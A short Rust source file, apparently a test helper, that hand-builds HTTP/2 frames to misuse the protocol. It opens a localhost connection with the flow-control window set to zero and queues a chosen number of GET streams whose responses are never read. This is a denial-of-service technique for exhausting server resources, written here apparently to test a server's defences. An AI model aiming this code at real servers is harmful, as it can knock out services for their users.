//! As much of HTTP/2 (RFC 9113) as it takes to misuse it.

use std::io::Write;
use std::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: u8 = 4;
const HEADERS: u8 = 1;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 0x5;
/// SETTINGS_INITIAL_WINDOW_SIZE: 0.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// `:method: GET`, `:scheme: http` and `:path: /` by their places in the static table, and `:authority: a` (RFC 7541).
const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x41, 1, b'a'];

/// A connection with `streams` requests whose answers it takes no byte of.
pub fn open_without_window(port: u16, streams: u32) -> TcpStream {
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &NO_WINDOW);
    for number in 0..streams {
        frame(&mut bytes, HEADERS, WHOLE, 2 * number + 1, &GET);
    }
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream.write_all(&bytes).unwrap();
    stream
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}
